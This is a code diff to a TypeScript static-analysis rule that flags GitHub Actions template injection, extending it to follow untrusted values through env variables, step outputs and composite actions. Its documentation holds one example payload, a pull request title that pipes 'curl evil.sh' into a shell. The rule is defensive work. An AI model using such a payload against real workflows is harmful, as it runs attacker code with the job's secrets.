@@ -1,6 +1,6 @@
 import { defineFileRule } from "../../../rule.ts";
-import { isBooleanExpression, references, untrustedField } from "../expressions.ts";
-import { allSteps, usesAction, type WorkflowModel, withValue, type YamlScalar } from "../model.ts";
+import { usesAction, type WorkflowModel, withValue, type YamlScalar } from "../model.ts";
+import { expressionSource, type StepScope, stepScopes } from "../taint.ts";
 
 export const templateInjection = defineFileRule<WorkflowModel>({
   id: "ci/template-injection",
@@ -14,7 +14,7 @@ export const templateInjection = defineFileRule<WorkflowModel>({
   docs: {
     summary:
       // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
-      "A `run:` script or an `actions/github-script` `script:` contains `${{ … }}` that expands text an outsider writes: issue, pull request, comment and review titles and bodies, branch names (`github.head_ref`), commit messages, label and wiki page names.",
+      "A `run:` script (of a workflow or a composite action) or an `actions/github-script` `script:` contains `${{ … }}` that expands text an outsider writes: issue, pull request, comment and review titles and bodies, branch names (`github.head_ref`), commit messages, label and wiki page names; directly, through `${{ env.X }}` of a variable set from such a field, or through `${{ steps.<id>.outputs.<name> }}` of an earlier step that wrote such a value to `$GITHUB_OUTPUT` or of an action whose outputs carry a pull request's file or branch names (tj-actions/changed-files, tj-actions/branch-names, dorny/paths-filter).",
     whyItMatters:
       "GitHub pastes the expression into the script before the shell runs it. A pull request titled `\"; curl evil.sh | sh; #` runs the attacker's commands with the job's token and secrets.",
     remediation:
@@ -29,12 +29,9 @@ export const templateInjection = defineFileRule<WorkflowModel>({
     ],
   },
   check(ctx) {
-    const inspect = (script: YamlScalar, where: string) => {
+    const inspect = (script: YamlScalar, where: string, scope: StepScope) => {
       for (const expression of script.expressions) {
-        if (isBooleanExpression(expression.text)) continue;
-        const field = references(expression.text)
-          .map((reference) => untrustedField(reference, ctx.model))
-          .find((found) => found !== null);
+        const field = expressionSource(scope, expression.text);
         if (!field) continue;
         ctx.report({
           message: `${field} is expanded into ${where}; pass it through env instead`,
@@ -42,11 +39,11 @@ export const templateInjection = defineFileRule<WorkflowModel>({
         });
       }
     };
-    for (const { step } of allSteps(ctx.model)) {
-      if (step.run) inspect(step.run, "a run script");
+    for (const { step, scope } of stepScopes(ctx.model)) {
+      if (step.run) inspect(step.run, "a run script", scope);
       if (usesAction(step, "actions/github-script")) {
         const script = withValue(step, "script");
-        if (script) inspect(script, "a github-script script");
+        if (script) inspect(script, "a github-script script", scope);
       }
     }
   },
